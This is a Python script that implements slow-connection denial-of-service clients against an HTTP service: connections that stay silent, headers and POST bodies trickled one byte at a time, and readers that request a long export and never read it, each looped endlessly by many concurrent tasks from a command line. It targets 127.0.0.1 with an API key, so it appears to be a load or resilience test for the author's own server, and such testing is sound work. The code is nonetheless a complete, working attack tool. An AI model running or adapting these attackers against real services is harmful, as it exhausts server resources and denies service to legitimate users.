"""Clients that take their time: each holds a connection as long as it is let, and then opens another."""

import asyncio
import socket
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

_PAUSE = 1.0  # seconds between two bytes
_SMALL = 4096  # bytes that the system may receive for a reader that does not read
_FORM = "Content-Type: application/x-www-form-urlencoded"

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[["Target"], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Target:
    """The service, a key to it, and an address whose answer is long."""

    port: int
    key: str
    long: str = "/api/v1/exports/months/?year=2022&format=csv"

    @asynccontextmanager
    async def connected(self, *, receiving: int = 0) -> AsyncIterator[Streams]:
        """Hold a connection during the block; for who is not to read, the system may keep few bytes."""
        link = socket.socket()
        link.setblocking(False)
        if receiving:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receiving)
        try:
            await asyncio.get_running_loop().sock_connect(link, ("127.0.0.1", self.port))
            reader, writer = await asyncio.open_connection(sock=link, limit=_SMALL)
        except BaseException:
            link.close()
            raise
        try:
            yield reader, writer
        finally:
            writer.transport.abort()
            with suppress(OSError):
                await writer.wait_closed()

    def head(self, line: str, *headers: str) -> bytes:
        lines = [f"{line} HTTP/1.1", "Host: 127.0.0.1", f"Authorization: Api-Key {self.key}", *headers, "", ""]
        return "\r\n".join(lines).encode()


async def silent(target: Target) -> None:
    """Say nothing until the connection is closed."""
    async with target.connected() as streams:
        await _until_closed(*streams)


async def slow_headers(target: Target) -> None:
    """Send a byte of a header now and then."""
    async with target.connected() as streams:
        streams[1].write(b"GET / HTTP/1.1\r\nX-Slow: ")
        await _until_closed(*streams, b"a")


async def slow_body(target: Target) -> None:
    """Send half of what was announced, and then a byte now and then."""
    async with target.connected() as streams:
        streams[1].write(target.head("POST /cuenta/entrar/", "Content-Length: 2000", _FORM) + b" " * 1000)
        await _until_closed(*streams, b" ")


async def stalled_reader(target: Target) -> None:
    """Ask for something long and read nothing of it."""
    async with target.connected(receiving=_SMALL) as (_, writer):
        writer.write(target.head(f"GET {target.long}"))
        await asyncio.sleep(3600)


async def _until_closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drop: bytes = b"") -> None:
    while True:
        with suppress(TimeoutError):
            if not await asyncio.wait_for(reader.read(_SMALL), _PAUSE):
                return
        writer.write(drop)
        await writer.drain()


async def attack(target: Target, **how_many: int) -> None:
    """Keep so many of each kind of attacker at it until cancelled."""
    kinds: dict[str, Attack] = {
        "silent": silent,
        "headers": slow_headers,
        "bodies": slow_body,
        "readers": stalled_reader,
    }
    async with asyncio.TaskGroup() as group:
        for kind, count in how_many.items():
            for _ in range(count):
                group.create_task(_again_and_again(kinds[kind], target))


async def _again_and_again(attacker: Attack, target: Target) -> None:
    while True:
        with suppress(OSError):
            await attacker(target)
        await asyncio.sleep(0.1)


def main() -> None:
    """Attack until killed: PORT KEY KIND=COUNT …"""
    port, key, *counts = sys.argv[1:]
    how_many = {kind: int(count) for kind, _, count in (word.partition("=") for word in counts)}
    asyncio.run(attack(Target(int(port), key), **how_many))


if __name__ == "__main__":
    main()
